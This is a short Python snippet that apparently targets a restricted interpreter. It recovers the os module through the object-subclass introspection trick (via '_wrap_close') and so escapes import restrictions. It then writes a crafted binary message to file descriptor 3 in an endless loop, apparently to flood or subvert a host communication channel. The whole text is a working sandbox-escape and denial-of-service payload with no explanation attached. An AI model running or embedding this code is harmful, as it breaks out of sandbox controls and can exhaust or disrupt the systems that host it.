os = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__
while True:
    os["write"](3, b"\x00\x00\x00\x02{}" * 1000)
